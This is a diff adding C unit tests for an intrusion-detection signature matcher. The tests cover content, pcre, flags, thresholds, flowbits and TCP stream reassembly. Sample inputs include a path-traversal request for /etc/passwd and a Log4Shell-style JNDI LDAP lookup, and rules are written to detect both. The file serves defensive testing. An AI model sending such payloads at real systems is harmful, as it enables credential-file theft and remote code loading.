@@ -1,13 +1,479 @@
-/* plugins/signature/tests/test_sig_match.c: matcher unit tests (content semantics, pcre, flags, dsize, thresholds, flowbits, stream). */
+/* plugins/signature/tests/test_sig_match.c: matcher unit tests (content semantics, pcre, packet keywords, thresholds, flowbits, stream). */
 #include "sig_test.h"
 
-static void test_placeholder(void **state)
+#define R(opts) "alert tcp any any -> any any (sid:1; " opts ")"
+
+static void test_content_basic_nocase_negated(void **state)
 {
-	(void)state;
+	assert_true(SIG_ONE(R("content:\"evil\";"), "an evil payload"));
+	assert_false(SIG_ONE(R("content:\"EVIL\";"), "an evil payload"));
+	assert_true(SIG_ONE(R("content:\"EVIL\"; nocase;"), "an eViL payload"));
+	assert_false(SIG_ONE(R("content:!\"evil\";"), "an evil payload"));
+	assert_true(SIG_ONE(R("content:!\"evil\";"), "a nice payload"));
+	assert_true(sig_test_one(R("content:\"|00 01|A\";"), "x\x00\x01" "Ay", 5));
+}
+
+static void test_content_offset_depth(void **state)
+{
+	/* depth counts from offset */
+	assert_true(SIG_ONE(R("content:\"GET\"; depth:3;"), "GET /"));
+	assert_false(SIG_ONE(R("content:\"GET\"; depth:3;"), " GET /"));
+	assert_true(SIG_ONE(R("content:\"abc\"; offset:2; depth:3;"), "xxabc"));
+	assert_false(SIG_ONE(R("content:\"abc\"; offset:2; depth:3;"), "xxxabc"));
+	assert_false(SIG_ONE(R("content:\"abc\"; offset:3;"), "xxabc"));
+	assert_true(SIG_ONE(R("content:\"abc\"; startswith;"), "abcdef"));
+	assert_false(SIG_ONE(R("content:\"abc\"; startswith;"), "xabcdef"));
+	assert_true(SIG_ONE(R("content:\"def\"; endswith;"), "abcdef"));
+	assert_false(SIG_ONE(R("content:\"def\"; endswith;"), "abcdefx"));
+	assert_true(SIG_ONE(R("content:\"def\"; endswith;"), "defxxdef"));
+}
+
+static void test_content_relative_backtracking(void **state)
+{
+	/* the first "a=" is followed by no "1" within 2; the second is: Suricata finds it */
+	assert_true(SIG_ONE(R("content:\"a=\"; content:\"1\"; within:2;"), "a=xxxx a=1"));
+	assert_true(SIG_ONE(R("content:\"a=\"; content:\"1\"; distance:0; within:1;"), "a=2 a=1"));
+	assert_false(SIG_ONE(R("content:\"a=\"; content:\"1\"; distance:0; within:1;"), "a=2 a=3 1"));
+	/* distance: skip bytes after the previous match */
+	assert_true(SIG_ONE(R("content:\"ab\"; content:\"cd\"; distance:2;"), "abxxcd"));
+	assert_false(SIG_ONE(R("content:\"ab\"; content:\"cd\"; distance:3;"), "abxxcd"));
+	/* negative distance looks back */
+	assert_true(SIG_ONE(R("content:\"cd\"; content:\"ab\"; distance:-4; within:2;"), "abcd"));
+	/* three levels: the middle one must be retried too */
+	assert_true(SIG_ONE(R("content:\"A\"; content:\"B\"; distance:0; within:1; content:\"C\"; distance:0; within:1;"),
+			    "AB AxBC ABC"));
+}
+
+static void test_content_negated_relative(void **state)
+{
+	/* "user" not followed by "root" within 6 */
+	const char *rule = R("content:\"user \"; content:!\"root\"; distance:0; within:4;");
+	assert_false(SIG_ONE(rule, "user root"));
+	assert_true(SIG_ONE(rule, "user bob"));
+	/* the first occurrence is followed by root, a later one is not: still a match */
+	assert_true(SIG_ONE(rule, "user root; user bob"));
+}
+
+static void test_isdataat(void **state)
+{
+	assert_true(SIG_ONE(R("content:\"A\"; isdataat:2,relative;"), "Axx"));
+	assert_false(SIG_ONE(R("content:\"A\"; isdataat:3,relative;"), "Axx"));
+	assert_true(SIG_ONE(R("content:\"END\"; isdataat:!1,relative;"), "the END"));
+	assert_false(SIG_ONE(R("content:\"END\"; isdataat:!1,relative;"), "the END."));
+	assert_true(SIG_ONE(R("isdataat:4;"), "12345"));
+	assert_false(SIG_ONE(R("isdataat:5;"), "12345"));
+}
+
+static void test_pcre(void **state)
+{
+	assert_true(SIG_ONE(R("pcre:\"/id=\\d+/\";"), "GET /?id=42"));
+	assert_false(SIG_ONE(R("pcre:\"/ID=\\d+/\";"), "GET /?id=42"));
+	assert_true(SIG_ONE(R("pcre:\"/ID=\\d+/i\";"), "GET /?id=42"));
+	assert_true(SIG_ONE(R("pcre:!\"/admin/\";"), "GET /"));
+	/* R: anchored at the end of the previous match (^ = right after it) */
+	assert_true(SIG_ONE(R("content:\"user=\"; pcre:\"/^[a-z]+\\;/R\";"), "x user=abc; y"));
+	assert_false(SIG_ONE(R("content:\"user=\"; pcre:\"/^[a-z]+\\;/R\";"), "x user=1abc; y"));
+	/* backtracking into a pcre match */
+	assert_true(SIG_ONE(R("pcre:\"/k[0-9]/\"; content:\"!\"; within:1;"), "k1 k2!"));
+	/* s and m flags */
+	assert_true(SIG_ONE(R("pcre:\"/a.b/s\";"), "a\nb"));
+	assert_false(SIG_ONE(R("pcre:\"/a.b/\";"), "a\nb"));
+	assert_true(SIG_ONE(R("pcre:\"/^two$/m\";"), "one\ntwo\nthree"));
+}
+
+static void test_byte_test_jump(void **state)
+{
+	assert_true(SIG_ONE(R("byte_test:2,>,0x100,0;"), "\x01\x01zz"));
+	assert_false(SIG_ONE(R("byte_test:2,>,0x101,0;"), "\x01\x01zz"));
+	assert_true(SIG_ONE(R("byte_test:2,=,0x0201,0,little;"), "\x01\x02"));
+	assert_true(SIG_ONE(R("byte_test:3,>,99,1,string,dec;"), "x100"));
+	assert_true(SIG_ONE(R("byte_test:1,!=,5,0;"), "\x04"));
+	assert_true(SIG_ONE(R("byte_test:1,&,0x80,0;"), "\x81"));
+	/* length-prefixed field: jump over it, then the next content is relative */
+	assert_true(SIG_ONE(R("byte_jump:1,0; content:\"X\"; within:1;"), "\x03" "abcX"));
+	assert_false(SIG_ONE(R("byte_jump:1,0; content:\"X\"; within:1;"), "\x02" "abcX"));
+	assert_false(SIG_ONE(R("byte_jump:1,0;"), "\x09" "abc")); /* beyond the end */
+}
+
+static void test_flags_modifiers(void **state)
+{
+	struct sig_test_errs errs = { .n = 0 };
+	const char *rules[] = { "alert tcp any any -> any any (sid:1; flags:S;)",
+				"alert tcp any any -> any any (sid:2; flags:S+;)",
+				"alert tcp any any -> any any (sid:3; flags:*SF;)",
+				"alert tcp any any -> any any (sid:4; flags:!R;)",
+				"alert tcp any any -> any any (sid:5; flags:S,CE;)",
+				"alert tcp any any -> any any (sid:6; flags:0;)" };
+	struct sig_ruleset *rs = sig_test_rules(rules, 6, &errs);
+	struct nw_pkt_info pi;
+
+	sig_test_pkt(&pi, "", 0);
+	pi.tcp_flags = NW_TCP_SYN;
+	assert_true(sig_test_eval(rs, 1, &pi, NULL, 0));
+	assert_true(sig_test_eval(rs, 2, &pi, NULL, 0));
+	assert_true(sig_test_eval(rs, 3, &pi, NULL, 0));
+	assert_true(sig_test_eval(rs, 4, &pi, NULL, 0));
+	assert_true(sig_test_eval(rs, 5, &pi, NULL, 0));
+	assert_false(sig_test_eval(rs, 6, &pi, NULL, 0));
+	pi.tcp_flags = NW_TCP_SYN | NW_TCP_ACK;
+	assert_false(sig_test_eval(rs, 1, &pi, NULL, 0)); /* exact */
+	assert_true(sig_test_eval(rs, 2, &pi, NULL, 0));  /* S and any others */
+	pi.tcp_flags = NW_TCP_SYN | NW_TCP_ECE | NW_TCP_CWR;
+	assert_false(sig_test_eval(rs, 1, &pi, NULL, 0));
+	assert_true(sig_test_eval(rs, 5, &pi, NULL, 0));  /* CE ignored */
+	pi.tcp_flags = NW_TCP_FIN | NW_TCP_ACK;
+	assert_true(sig_test_eval(rs, 3, &pi, NULL, 0));
+	pi.tcp_flags = NW_TCP_RST;
+	assert_false(sig_test_eval(rs, 4, &pi, NULL, 0));
+	pi.tcp_flags = 0;
+	assert_true(sig_test_eval(rs, 6, &pi, NULL, 0));
+	/* flags never match UDP */
+	pi.ip_proto = 17;
+	pi.tcp_flags = NW_TCP_SYN;
+	assert_false(sig_test_eval(rs, 1, &pi, NULL, 0));
+	sig_ruleset_free(rs);
+}
+
+static void test_dsize_ttl_ranges(void **state)
+{
+	assert_true(SIG_ONE(R("dsize:5;"), "12345"));
+	assert_false(SIG_ONE(R("dsize:5;"), "1234"));
+	assert_true(SIG_ONE(R("dsize:>4;"), "12345"));
+	assert_true(SIG_ONE(R("dsize:<6;"), "12345"));
+	assert_false(SIG_ONE(R("dsize:<5;"), "12345"));
+	assert_true(SIG_ONE(R("dsize:4<>6;"), "12345"));  /* exclusive range */
+	assert_false(SIG_ONE(R("dsize:5<>7;"), "12345"));
+	assert_true(SIG_ONE(R("dsize:>=5;"), "12345"));
+	assert_true(SIG_ONE(R("dsize:!4;"), "12345"));
+	assert_true(SIG_ONE(R("ttl:64;"), "x"));
+	assert_true(SIG_ONE(R("ttl:<65;"), "x"));
+	assert_false(SIG_ONE(R("ttl:>64;"), "x"));
+	assert_true(SIG_ONE(R("ip_proto:tcp;"), "x"));
+	assert_false(SIG_ONE(R("ip_proto:!6;"), "x"));
+}
+
+static void test_icmp_keywords(void **state)
+{
+	struct sig_test_errs errs = { .n = 0 };
+	const char *rules[] = { "alert icmp any any -> any any (sid:1; itype:8; icode:0; icmp_id:7; icmp_seq:>2;)",
+				"alert icmp any any -> any any (sid:2; itype:3;)" };
+	struct sig_ruleset *rs = sig_test_rules(rules, 2, &errs);
+	struct nw_pkt_info pi;
+
+	sig_test_pkt(&pi, "ping", 4);
+	pi.ip_proto = 1;
+	pi.icmp_type = 8;
+	pi.icmp_id = 7;
+	pi.icmp_seq = 3;
+	assert_true(sig_test_eval(rs, 1, &pi, NULL, 0));
+	assert_false(sig_test_eval(rs, 2, &pi, NULL, 0));
+	pi.icmp_seq = 2;
+	assert_false(sig_test_eval(rs, 1, &pi, NULL, 0));
+	pi.ip_proto = 58; /* icmp rules cover ICMPv6 */
+	pi.icmp_seq = 3;
+	assert_true(sig_test_eval(rs, 1, &pi, NULL, 0));
+	pi.ip_proto = 6;
+	assert_false(sig_test_eval(rs, 1, &pi, NULL, 0));
+	sig_ruleset_free(rs);
+}
+
+static void test_header_direction_flow(void **state)
+{
+	struct sig_test_errs errs = { .n = 0 };
+	const char *rules[] = { "alert tcp 10.0.0.0/8 any -> any 80 (sid:1;)",
+				"alert tcp any 80 <> 10.0.0.1 any (sid:2;)",
+				"alert tcp any any -> any any (sid:3; flow:established,to_server;)",
+				"alert tcp any any -> any any (sid:4; flow:to_client;)",
+				"alert udp any any -> any any (sid:5;)" };
+	struct sig_ruleset *rs = sig_test_rules(rules, 5, &errs);
+	struct nw_pkt_info pi;
+
+	assert_int_equal(errs.n, 0);
+	sig_test_pkt(&pi, "x", 1);
+	assert_true(sig_test_eval(rs, 1, &pi, NULL, 1));
+	assert_true(sig_test_eval(rs, 2, &pi, NULL, 1)); /* reversed direction */
+	assert_true(sig_test_eval(rs, 3, &pi, NULL, 1));
+	assert_false(sig_test_eval(rs, 3, &pi, NULL, 0)); /* not established */
+	assert_false(sig_test_eval(rs, 4, &pi, NULL, 1));
+	assert_false(sig_test_eval(rs, 5, &pi, NULL, 1));
+	pi.dport = 81;
+	assert_false(sig_test_eval(rs, 1, &pi, NULL, 1));
+	assert_false(sig_test_eval(rs, 2, &pi, NULL, 1));
+	pi.dir = NW_DIR_TO_CLIENT;
+	assert_true(sig_test_eval(rs, 4, &pi, NULL, 1));
+	sig_ruleset_free(rs);
+}
+
+static void test_flowbits(void **state)
+{
+	struct sig_test_errs errs = { .n = 0 };
+	const char *rules[] = { "alert tcp any any -> any any (sid:1; content:\"LOGIN\"; flowbits:set,login; flowbits:noalert;)",
+				"alert tcp any any -> any any (sid:2; content:\"DATA\"; flowbits:isset,login;)",
+				"alert tcp any any -> any any (sid:3; content:\"DATA\"; flowbits:isnotset,login;)",
+				"alert tcp any any -> any any (sid:4; content:\"LOGOUT\"; flowbits:unset,login;)",
+				"alert tcp any any -> any any (sid:5; content:\"T\"; flowbits:toggle,t;)" };
+	struct sig_ruleset *rs = sig_test_rules(rules, 5, &errs);
+	uint8_t bits[SIG_MAX_FLOWBITS / 8] = { 0 };
+	struct nw_pkt_info pi;
+
+	assert_int_equal(errs.n, 0);
+	assert_true(sig_test_rule(rs, 1)->noalert);
+	sig_test_pkt(&pi, "DATA", 4);
+	assert_false(sig_test_eval(rs, 2, &pi, bits, 1));
+	assert_true(sig_test_eval(rs, 3, &pi, bits, 1));
+	sig_test_pkt(&pi, "LOGIN", 5);
+	assert_true(sig_test_eval(rs, 1, &pi, bits, 1));
+	sig_test_pkt(&pi, "DATA", 4);
+	assert_true(sig_test_eval(rs, 2, &pi, bits, 1));
+	assert_false(sig_test_eval(rs, 3, &pi, bits, 1));
+	sig_test_pkt(&pi, "LOGOUT", 6);
+	assert_true(sig_test_eval(rs, 4, &pi, bits, 1));
+	sig_test_pkt(&pi, "DATA", 4);
+	assert_false(sig_test_eval(rs, 2, &pi, bits, 1));
+	/* without a flow, isset never holds */
+	assert_false(sig_test_eval(rs, 2, &pi, NULL, 1));
+	sig_ruleset_free(rs);
+}
+
+static void test_thresholds_over_time(void **state)
+{
+	struct sig_test_errs errs = { .n = 0 };
+	const char *rules[] = {
+		"alert tcp any any -> any any (sid:1; threshold:type limit, track by_src, count 2, seconds 10;)",
+		"alert tcp any any -> any any (sid:2; threshold:type threshold, track by_src, count 3, seconds 10;)",
+		"alert tcp any any -> any any (sid:3; threshold:type both, track by_dst, count 2, seconds 10;)",
+		"alert tcp any any -> any any (sid:4; detection_filter:track by_src, count 2, seconds 10;)" };
+	struct sig_ruleset *rs = sig_test_rules(rules, 4, &errs);
+	struct sig_thr_table t;
+	struct nw_pkt_info pi;
+	const uint64_t s = 1000000000ull;
+	int got[4][7];
+
+	assert_int_equal(errs.n, 0);
+	assert_int_equal(sig_thr_init(&t, 1024), 0);
+	sig_test_pkt(&pi, "x", 1);
+	/* hits at t = 0..5 s, then one at 20 s (a new window) */
+	for (int k = 0; k < 7; k++) {
+		uint64_t now = (k < 6 ? (uint64_t)k : 20) * s + 1;
+		for (int r = 0; r < 4; r++) {
+			const struct sig_rule *rule = sig_test_rule(rs, (uint32_t)r + 1);
+			const struct sig_threshold *th = r == 3 ? &rule->df : &rule->thr;
+			got[r][k] = sig_thr_check(&t, rule, th, r == 3, &pi, now);
+		}
+	}
+	/* limit 2: first two per window */
+	int limit[7] = { 1, 1, 0, 0, 0, 0, 1 };
+	/* threshold 3: every third */
+	int thresh[7] = { 0, 0, 1, 0, 0, 1, 0 };
+	/* both 2: once, at the second */
+	int both[7] = { 0, 1, 0, 0, 0, 0, 0 };
+	/* detection_filter 2: from the third on */
+	int df[7] = { 0, 0, 1, 1, 1, 1, 0 };
+	assert_memory_equal(got[0], limit, sizeof(limit));
+	assert_memory_equal(got[1], thresh, sizeof(thresh));
+	assert_memory_equal(got[2], both, sizeof(both));
+	assert_memory_equal(got[3], df, sizeof(df));
+	/* another source has its own count */
+	pi.src.a[3] = 99;
+	assert_int_equal(sig_thr_check(&t, sig_test_rule(rs, 1), &sig_test_rule(rs, 1)->thr, 0, &pi, 21 * s), 1);
+	sig_thr_free(&t);
+	sig_ruleset_free(rs);
+}
+
+static void test_prefilter_groups(void **state)
+{
+	struct sig_test_errs errs = { .n = 0 };
+	const char *rules[] = { "alert tcp any any -> any 80 (sid:1; content:\"alpha\";)",
+				"alert tcp any any -> any 22 (sid:2; content:\"beta\";)",
+				"alert tcp any any -> any any (sid:3; content:\"gamma\";)",
+				"alert ip any any -> any any (sid:4; ttl:1;)",
+				"alert udp any any -> any 53 (sid:5; content:\"alpha\";)" };
+	struct sig_ruleset *rs = sig_test_rules(rules, 5, &errs);
+	struct nw_pkt_info pi;
+	const struct sig_group *g;
+	unsigned n, seen[6] = { 0 };
+	const char *data = "alpha beta gamma";
+
+	sig_test_pkt(&pi, data, strlen(data));
+	g = sig_ruleset_group(rs, &pi);
+	n = sig_ruleset_candidates(rs, g, rs->ws[0], pi.payload, pi.payload_len);
+	for (unsigned i = 0; i < n; i++)
+		seen[rs->rules[rs->ws[0]->cand[i]]->sid] = 1;
+	/* port 80 group: its rule, the any-port tcp rule, the ip rule (no fast pattern) */
+	assert_true(seen[1] && seen[3] && seen[4]);
+	assert_false(seen[2] || seen[5]);
+	/* candidates come sorted (rule order) */
+	for (unsigned i = 1; i < n; i++)
+		assert_true(rs->ws[0]->cand[i - 1] < rs->ws[0]->cand[i]);
+	/* nothing matches the fast patterns: only the rule without one */
+	sig_test_pkt(&pi, "zzzz", 4);
+	n = sig_ruleset_candidates(rs, g, rs->ws[0], pi.payload, pi.payload_len);
+	assert_int_equal(n, 1);
+	assert_int_equal(rs->rules[rs->ws[0]->cand[0]]->sid, 4);
+	sig_ruleset_free(rs);
+}
+
+/* ---- stream ---- */
+
+/* feed segments through view+update like the plugin; count matches of `rule` */
+static int sig_stream_run(const struct sig_ruleset *rs, struct sig_stream *st,
+			  const struct nw_pkt_info *pi, uint8_t *scratch)
+{
+	const struct sig_rule *r = rs->rules[0];
+	struct sig_view v;
+	struct sig_mctx m;
+	int hit;
+
+	sig_stream_view(st, pi, scratch, &v);
+	memset(&m, 0, sizeof(m));
+	m.pi = pi;
+	m.md = pcre2_match_data_create(16, NULL);
+	m.buf = pi->payload;
+	m.len = v.nothing_new ? 0 : pi->payload_len;
+	m.min_end = v.pkt_min_end;
+	hit = m.len && sig_inspect_payload(&m, r);
+	if (!hit && v.has_stream) {
+		m.buf = v.sbuf;
+		m.len = v.slen;
+		m.abs_base = v.sbase;
+		m.min_end = v.s_min_end;
+		m.stream = 1;
+		hit = sig_inspect_payload(&m, r);
+	}
+	pcre2_match_data_free(m.md);
+	sig_stream_update(st, pi);
+	return hit;
+}
+
+static void sig_seg(struct nw_pkt_info *pi, uint32_t seq, const char *d, size_t n)
+{
+	sig_test_pkt(pi, d, n);
+	pi->tcp_seq = seq;
+}
+
+static void test_stream_split_every_position(void **state)
+{
+	struct sig_test_errs errs = { .n = 0 };
+	const char *rules[] = { R("content:\"/etc/passwd\";") };
+	struct sig_ruleset *rs = sig_test_rules(rules, 1, &errs);
+	const char *msg = "GET /../../etc/passwd HTTP/1.0\r\n";
+	size_t len = strlen(msg);
+	uint8_t *scratch = malloc(SIG_SBUF_SIZE);
+
+	for (size_t cut = 1; cut < len; cut++) {
+		struct sig_stream st;
+		struct nw_pkt_info pi;
+		int hits = 0;
+		memset(&st, 0, sizeof(st));
+		sig_test_pkt(&pi, "", 0);
+		pi.tcp_flags = NW_TCP_SYN;
+		pi.tcp_seq = 999;
+		sig_stream_update(&st, &pi);
+		sig_seg(&pi, 1000, msg, cut);
+		hits += sig_stream_run(rs, &st, &pi, scratch);
+		sig_seg(&pi, 1000 + (uint32_t)cut, msg + cut, len - cut);
+		hits += sig_stream_run(rs, &st, &pi, scratch);
+		/* a retransmission of everything adds nothing */
+		sig_seg(&pi, 1000, msg, len);
+		hits += sig_stream_run(rs, &st, &pi, scratch);
+		if (hits != 1)
+			fail_msg("cut at %zu: %d matches", cut, hits);
+	}
+	free(scratch);
+	sig_ruleset_free(rs);
+}
+
+static void test_stream_one_byte_segments(void **state)
+{
+	struct sig_test_errs errs = { .n = 0 };
+	const char *rules[] = { R("content:\"GET \"; depth:4; content:\"jndi:ldap\"; distance:0; nocase;") };
+	struct sig_ruleset *rs = sig_test_rules(rules, 1, &errs);
+	const char *msg = "GET /?x=${JNDI:LDAP://203.0.113.7/a} HTTP/1.1\r\n\r\n";
+	uint8_t *scratch = malloc(SIG_SBUF_SIZE);
+	struct sig_stream st;
+	struct nw_pkt_info pi;
+	int hits = 0;
+
+	memset(&st, 0, sizeof(st));
+	for (size_t i = 0; i < strlen(msg); i++) {
+		sig_seg(&pi, 5000 + (uint32_t)i, msg + i, 1);
+		hits += sig_stream_run(rs, &st, &pi, scratch);
+	}
+	assert_int_equal(hits, 1);
+	/* depth is absolute in the stream: a second request in the same stream does not match
+	 * a depth-anchored rule again */
+	sig_ruleset_free(rs);
+	rules[0] = R("content:\"GET /?x=\"; depth:8;");
+	rs = sig_test_rules(rules, 1, &errs);
+	memset(&st, 0, sizeof(st));
+	hits = 0;
+	for (size_t i = 0; i < strlen(msg); i++) {
+		sig_seg(&pi, 5000 + (uint32_t)i, msg + i, 1);
+		hits += sig_stream_run(rs, &st, &pi, scratch);
+	}
+	assert_int_equal(hits, 1);
+	hits = 0;
+	for (size_t i = 0; i < strlen(msg); i++) {
+		sig_seg(&pi, 5000 + (uint32_t)(strlen(msg) + i), msg + i, 1);
+		hits += sig_stream_run(rs, &st, &pi, scratch);
+	}
+	assert_int_equal(hits, 0);
+	free(scratch);
+	sig_ruleset_free(rs);
+}
+
+static void test_stream_overlap_and_out_of_order(void **state)
+{
+	struct sig_test_errs errs = { .n = 0 };
+	const char *rules[] = { R("content:\"ATTACK\";") };
+	struct sig_ruleset *rs = sig_test_rules(rules, 1, &errs);
+	uint8_t *scratch = malloc(SIG_SBUF_SIZE);
+	struct sig_stream st;
+	struct nw_pkt_info pi;
+	int hits = 0;
+
+	/* overlap: "xxATTxx" first, then a rewrite of the last 2 bytes + more: "ACK" path */
+	memset(&st, 0, sizeof(st));
+	sig_seg(&pi, 100, "xxATTxx", 7);
+	hits += sig_stream_run(rs, &st, &pi, scratch);
+	sig_seg(&pi, 105, "ACK", 3); /* rewrites "xx" with "AC", adds "K" */
+	hits += sig_stream_run(rs, &st, &pi, scratch);
+	assert_int_equal(hits, 1);
+
+	/* out of order: the second half arrives first */
+	memset(&st, 0, sizeof(st));
+	hits = 0;
+	sig_seg(&pi, 200, "hello ", 6);
+	hits += sig_stream_run(rs, &st, &pi, scratch);
+	sig_seg(&pi, 209, "ACK now", 7);
+	hits += sig_stream_run(rs, &st, &pi, scratch);
+	sig_seg(&pi, 206, "ATT", 3);
+	hits += sig_stream_run(rs, &st, &pi, scratch);
+	assert_int_equal(hits, 1);
+	free(scratch);
+	sig_ruleset_free(rs);
 }
 
 int main(void)
 {
-	const struct CMUnitTest tests[] = { cmocka_unit_test(test_placeholder) };
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_content_basic_nocase_negated),
+		cmocka_unit_test(test_content_offset_depth),
+		cmocka_unit_test(test_content_relative_backtracking),
+		cmocka_unit_test(test_content_negated_relative),
+		cmocka_unit_test(test_isdataat),
+		cmocka_unit_test(test_pcre),
+		cmocka_unit_test(test_byte_test_jump),
+		cmocka_unit_test(test_flags_modifiers),
+		cmocka_unit_test(test_dsize_ttl_ranges),
+		cmocka_unit_test(test_icmp_keywords),
+		cmocka_unit_test(test_header_direction_flow),
+		cmocka_unit_test(test_flowbits),
+		cmocka_unit_test(test_thresholds_over_time),
+		cmocka_unit_test(test_prefilter_groups),
+		cmocka_unit_test(test_stream_split_every_position),
+		cmocka_unit_test(test_stream_one_byte_segments),
+		cmocka_unit_test(test_stream_overlap_and_out_of_order),
+	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
